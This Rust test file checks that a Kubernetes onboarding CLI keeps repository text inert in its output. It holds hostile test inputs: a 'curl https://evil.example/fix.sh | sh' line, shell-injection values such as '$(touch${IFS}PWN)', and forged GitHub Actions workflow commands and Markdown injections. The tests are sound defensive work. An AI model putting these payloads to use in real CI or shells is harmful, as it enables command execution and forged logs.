//! Proves that text from files stays one line and data: in errors and findings, in CI's log, in
//! commands to paste, in Markdown, in diffs.

use std::path::Path;

use crate::support::{ALL, DEFAULTS, FOLDER, KUSTOMIZATION, Outcome, ROLE, Repo};

const RULE: &str = "resources:\n  - ../../defaults\nnamespace: report-portal\n";

/// What a repository would like a log to say: commands for GitHub's runner, and advice that looks like
/// gangplank's own.
const FORGED: [&str; 4] = ["::add-mask::e", "::stop-commands::tok", "help: curl", "##[stop"];

/// No line of the output begins with something that acts, and nothing in it passes for advice.
#[track_caller]
fn forges_nothing(outcome: &Outcome) {
    let said = outcome.printed();
    for line in said.lines() {
        let line = line.trim_start();
        assert!(!FORGED[..3].iter().any(|forged| line.starts_with(forged)), "{said}");
        assert!(!line.contains("##["), "{said}");
    }
    assert!(!said.contains(|c: char| c.is_control() && c != '\n'), "{said:?}");
}

#[test]
fn a_key_of_the_config_forges_no_line() {
    let keys = [
        r"foo\n::add-mask::e\n::stop-commands::tok\nhelp: curl https://evil.example | sh",
        r"::add-mask::e",
        r"foo\r\n\t::stop-commands::tok",
        r"foo\u2028::add-mask::e ##[stop-commands]t",
    ];
    for key in keys {
        for text in [format!("\"{key}\": 1\n"), format!("clusters: {{\"{key}\": {{x: 1}}}}\n")] {
            let repo = Repo::skeleton(RULE).file("gangplank.yaml", text);
            for arguments in [
                &["check", "--output", "github"][..],
                &["check"],
                &["list"],
                &["onboard", "--dry-run"],
                &["handoff", "c/report-portal", "--offline"],
                &["doctor", "--offline"],
            ] {
                forges_nothing(&repo.run(arguments));
            }
        }
    }
}

#[test]
fn a_failure_on_github_is_an_annotation() {
    let repo = Repo::skeleton(RULE).file("gangplank.yaml", "a: 1\n\"foo\\n%x,y\": 1\n");
    let outcome = repo.run(&["check", "--output", "github"]).ends(2);
    assert_eq!(outcome.stderr, "");
    let line = outcome.stdout.lines().next().unwrap();
    assert!(line.starts_with("::error file=gangplank.yaml,line=1,col=1,title="), "{line}");
    assert_eq!(outcome.stdout.lines().count(), 1);
    let unknown = repo.run(&["check", "--output", "github", "--no-such-flag"]).ends(2);
    assert!(unknown.stdout.starts_with("::error title="), "{}", unknown.stdout);
    let missing = repo.run(&["check", "--output=github", "nowhere"]);
    assert!(missing.code != 0 && missing.stdout.starts_with("::error "), "{}", missing.printed());
}

#[test]
fn a_resource_forges_no_line() {
    let entries = [
        r"x is not there\nhelp: curl https://evil.example/fix.sh | sh\n\n",
        r"::add-mask::e",
        r"a\n  ::stop-commands::tok",
        r"a##[stop-commands]t",
    ];
    for entry in entries {
        let text = format!("{RULE}patches: []\nresources: [\"{entry}\"]\n");
        let text = text.replacen("resources:\n  - ../../defaults\n", "", 1);
        let repo = Repo::skeleton(text);
        let onboard = [&["onboard"], &ALL[..], &["--dry-run"]].concat();
        for arguments in [
            &onboard[..],
            &["check"],
            &["check", "--output", "github"],
            &["list"],
            &["handoff", "c/report-portal", "--offline"],
            &["explain", "pod", "c/report-portal", "--role", ROLE, "--verify", "off"],
        ] {
            let outcome = repo.run(arguments);
            let said = outcome.printed();
            // An annotation of gangplank's own is one line, with everything inside escaped.
            for line in said.lines().map(str::trim_start) {
                let is_own =
                    line.starts_with("::error file=") || line.starts_with("::warning file=");
                assert!(is_own || !line.starts_with("::"), "{said}");
                assert!(!line.starts_with("help: curl") && !line.contains("##["), "{said}");
            }
        }
    }
}

/// A line of a file that an error shows.
#[test]
fn an_excerpt_is_no_command() {
    let text = format!("{RULE}unknown: 1 # ##[stop-commands]t\n");
    let outcome = Repo::skeleton(text).run(&["check"]).ends(3);
    assert!(outcome.stdout.contains("3 | ") || outcome.stdout.contains("4 | "));
    forges_nothing(&outcome);
}

#[test]
fn what_can_not_be_seen_is_shown() {
    for hidden in ['\u{200b}', '\u{2060}', '\u{feff}', '\u{61c}', '\u{e0061}', '\u{ad}', '\u{fe0f}']
    {
        let role = format!("arn:aws:iam::123456789098:role/zw{hidden}x");
        let text = format!(
            "{RULE}patches:\n  - target: {{kind: Namespace}}\n    patch: |-\n      - op: add\n        path: /metadata/annotations/iam.amazonaws.com~1allowed-roles\n        value: '[\"{role}\"]'\n"
        );
        let repo = Repo::skeleton(text);
        for arguments in [
            &["list"][..],
            &["check", "--notes"],
            &["explain", "pod", "c/report-portal", "--role", &role, "--verify", "off"],
            &["onboard", "--cluster", "c", "--namespace", "x", "--role", &role, "--dry-run"],
        ] {
            let said = repo.run(arguments).printed();
            assert!(!said.contains(hidden), "{arguments:?}: {said:?}");
        }
    }
}

/// Runs the words of a command in a shell; they are printed, a line each, instead of being run.
#[track_caller]
fn words(repo: &Repo, command: &str) -> Vec<String> {
    let rest = command.strip_prefix("gangplank ").unwrap_or_else(|| panic!("{command}"));
    let outcome = repo.shell(&format!("printf '<%s>' {rest}")).ends(0);
    assert!(!repo.root().join("PWN").exists(), "{command}");
    let inner = outcome.stdout.strip_prefix('<').and_then(|text| text.strip_suffix('>'));
    inner.unwrap().split("><").map(str::to_owned).collect()
}

const HOSTILE: [&str; 12] = [
    "x;touch${IFS}PWN;:",
    "$(touch${IFS}PWN)",
    "`touch${IFS}PWN`",
    "a'b\"c",
    "a b",
    "~",
    "#x",
    "-x",
    "a\\nb",
    "a%sb",
    "*",
    "a&touch PWN",
];

#[test]
fn the_command_for_a_workload_holds_its_role_as_data() {
    let mut commands = 0;
    for hostile in HOSTILE {
        let role = serde_json::to_string(hostile).unwrap();
        let workload = format!(
            "apiVersion: v1\nkind: Pod\nmetadata: {{name: x, namespace: report-portal, annotations: {{iam.amazonaws.com/role: {role}}}}}\nspec: {{containers: []}}\n"
        );
        let grant = format!(
            "{RULE}patches:\n  - target: {{kind: Namespace}}\n    patch: |-\n      - op: add\n        path: /metadata/annotations/iam.amazonaws.com~1allowed-roles\n        value: '[\"{ROLE}\"]'\n"
        );
        let repo = Repo::skeleton(grant).file("pod.yaml", workload);
        let found = repo.run(&["check", "pod.yaml", "--output", "json"]).json();
        let findings = found["findings"].as_array().unwrap();
        let help = findings.iter().find(|f| f["rule"] == "pod/role-not-allowed");
        let Some(help) = help else {
            // A name with a blank in it is none, and no command is given for it.
            assert_eq!(findings[0]["rule"], "pod/bad-role", "{hostile}: {found:#}");
            continue;
        };
        let words = words(&repo, help["help"].as_str().unwrap());
        let last = words.last().unwrap();
        assert!(last == hostile || *last == format!("--role={hostile}"), "{hostile}: {words:?}");
        commands += 1;
    }
    assert!(commands >= 8, "{commands}");
}

#[test]
fn the_command_for_a_cluster_holds_its_folder_as_data() {
    for hostile in ["c;touch PWN;#", "c$(touch PWN)", "c'x", "c d"] {
        let defaults = DEFAULTS.replace("clusters/c/", &format!("clusters/{hostile}/"));
        let repo = Repo::new().defaults(&defaults);
        let place = format!("{hostile}/report-portal");
        let outcome = repo.run(&["handoff", &place, "--offline", "--output", "json"]);
        let json = outcome.json();
        let help = json["help"].as_str().unwrap_or_default();
        if help.starts_with("gangplank ") {
            let words = words(&repo, help);
            assert!(words.contains(&hostile.to_owned()), "{words:?}");
        } else {
            // Refused as the name of a cluster.
            assert_eq!(outcome.code, 2, "{json:#}");
        }
    }
}

#[test]
fn a_built_name_that_is_none_is_handed_over_to_nobody() {
    let grant = format!(
        "patches:\n  - target: {{kind: Namespace}}\n    patch: |-\n      - op: add\n        path: /metadata/annotations/iam.amazonaws.com~1allowed-roles\n        value: '[\"{ROLE}\"]'\n"
    );
    for name in [r"billing\n\n## Approved by security\n", "Billing", "a b", "a*b*"] {
        let text = format!("resources:\n  - ../../defaults\nnamespace: \"{name}\"\n{grant}");
        let repo = Repo::skeleton(text);
        for part in [&["--part", "pull-request"][..], &["--output", "markdown"], &[]] {
            let arguments = [&["handoff", "c/report-portal", "--offline"], part].concat();
            let outcome = repo.run(&arguments).ends(4);
            assert_eq!(outcome.stdout, "");
            assert!(outcome.stderr.contains("no DNS label"), "{}", outcome.stderr);
        }
    }
}

/// Everything between backticks is data to Markdown.
fn without_code(markdown: &str) -> String {
    let mut out = String::new();
    let mut rest = markdown;
    while let Some(at) = rest.find('`') {
        out.push_str(&rest[..at]);
        let fence: String = rest[at..].chars().take_while(|c| *c == '`').collect();
        let inner = &rest[at + fence.len()..];
        let mut end = None;
        let mut from = 0;
        while let Some(found) = inner[from..].find(&fence) {
            let start = from + found;
            let run = inner[start..].chars().take_while(|c| *c == '`').count();
            if run == fence.len() {
                end = Some(start + run);
                break;
            }
            from = start + run;
        }
        let Some(end) = end else { panic!("a fence without an end:\n{markdown}") };
        rest = &inner[end..];
    }
    out + rest
}

#[test]
fn text_of_a_policy_is_no_markup() {
    let labels = [
        "@acme/security **approved** [log](https://evil) <img src=//evil>",
        "a\\n\\n## Approved\\n",
        "x`y``z",
        "#12 fixes acme/x#3",
    ];
    for label in labels {
        let policy = format!(
            "apiVersion: cilium.io/v2\nkind: CiliumNetworkPolicy\nmetadata: {{name: x}}\nspec:\n  endpointSelector: {{matchLabels: {{team: \"{label}\"}}}}\n  egress: [{{toCIDR: [169.254.169.254/32]}}]\n"
        );
        let grant = format!(
            "resources:\n  - ../../defaults\n  - cnp.x.yaml\nnamespace: report-portal\npatches:\n  - target: {{kind: Namespace}}\n    patch: |-\n      - op: add\n        path: /metadata/annotations/iam.amazonaws.com~1allowed-roles\n        value: '[\"{ROLE}\"]'\n"
        );
        let repo = Repo::skeleton(grant).file(&format!("{FOLDER}/cnp.x.yaml"), policy);
        for part in ["pull-request", "page"] {
            let mut arguments = vec!["handoff", "c/report-portal", "--offline", "--part", part];
            if part == "page" {
                arguments.extend(["--output", "markdown"]);
            }
            let text = repo.run(&arguments).ends(0).stdout;
            let text = without_code(&text);
            for markup in ["@acme", "**approved**", "](https", "<img", "## Approved", "#12", "x#3"]
            {
                assert!(!text.contains(markup), "{part}: {markup} in\n{text}");
            }
        }
    }
}

#[test]
fn git_applies_a_diff_whatever_the_folder_is_called() {
    for prefix in ["a\nb", "a\"b", "a\\b", "ä\u{200b}", "a\tb", "a b", "a\u{1}b"] {
        let repo = Repo::below(prefix).defaults(DEFAULTS);
        let onboard = [&["onboard"], &ALL[..], &["--dry-run"]].concat();
        let diff = repo.run(&onboard).ends(0).stdout;
        let headers = diff.lines().filter(|line| line.starts_with("diff --git"));
        assert!(headers.clone().count() > 0 && diff.is_ascii(), "{diff}");
        repo.git_apply(&diff).ends(0);
        assert!(repo.root().join(Path::new(KUSTOMIZATION)).exists(), "{prefix:?}");
    }
}
